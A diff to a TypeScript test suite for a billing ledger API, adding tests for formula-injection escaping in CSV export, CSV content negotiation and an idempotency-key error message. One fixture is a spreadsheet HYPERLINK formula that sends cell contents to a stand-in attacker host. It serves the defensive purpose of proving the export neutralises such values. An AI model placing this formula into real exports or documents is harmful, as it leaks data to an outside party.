@@ -359,6 +359,31 @@ describe('the ledger: entries, balance, usage, credits', () => {
     expect(rows[0]?.redemptionCodeId).toBe('');
   });
 
+  it('writes free text that a spreadsheet would run as a formula behind a quote', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', '+1+2', '-1+2', '@SUM(A1)', '\t=1+1'];
+    for (const reasonDetails of formulas)
+      await credit({ amount: 1, reason: 'PURCHASE_REFILL', reasonDetails });
+    const csv = parse((await list(`limit=${formulas.length}`, { accept: 'text/csv' })).body, {
+      columns: true,
+    }) as Record<string, string>[];
+    expect(csv.map((r) => r.reasonDetails).reverse()).toEqual(formulas.map((f) => `'${f}`));
+    // Numbers stay numbers (a usage entry's amount is negative); the JSON keeps the text as sent.
+    expect(csv.every((r) => /^-?\d+$/.test(r.amount ?? ''))).toBe(true);
+    const json = bodyOf(LedgerEntryList, await list(`limit=${formulas.length}`));
+    expect(json.map((e) => e.reasonDetails).reverse()).toEqual(formulas);
+  });
+
+  it('answers CSV only where the client accepts it and weighs it no lower than JSON', async () => {
+    const isCsv = async (accept: string) =>
+      String((await list('limit=1', { accept })).headers['content-type']).startsWith('text/csv');
+    expect(await isCsv('text/csv')).toBe(true);
+    expect(await isCsv('application/json;q=0.9, TEXT/CSV')).toBe(true);
+    expect(await isCsv('text/csv;q=0, application/json')).toBe(false);
+    expect(await isCsv('text/csv; q=0')).toBe(false);
+    expect(await isCsv('text/csv;q=0.5, application/json')).toBe(false);
+    expect(await isCsv('text/csvx, application/json')).toBe(false);
+  });
+
   it('books a credit once per Idempotency-Key, stored on the entry', async () => {
     const before = bodyOf(Balance, await balance()).balance;
     const key = freshKey();
@@ -390,7 +415,11 @@ describe('the ledger: entries, balance, usage, credits', () => {
 
   it('refuses a credit without its key, a bad body, or without billing:write', async () => {
     const body = { amount: 5, reason: 'PURCHASE_REFILL' };
-    expectProblem(await credit(body, { key: null }), 400, ['Idempotency-Key']);
+    const keyless = await credit(body, { key: null });
+    expectProblem(keyless, 400, ['Idempotency-Key']);
+    expect(JSON.parse(keyless.body).detail).toBe(
+      'The Idempotency-Key header is required: a retry must not credit twice.',
+    );
     expectProblem(await credit({ amount: 0, reason: 'PURCHASE_REFILL' }), 400, ['amount']);
     expectProblem(await credit({ amount: 5, reason: 'VOICE_USAGE' }), 400, ['reason']);
     expectProblem(await credit({ amount: 5, reason: 'REDEMPTION_CODE' }), 400, ['redemptionCodeId']);
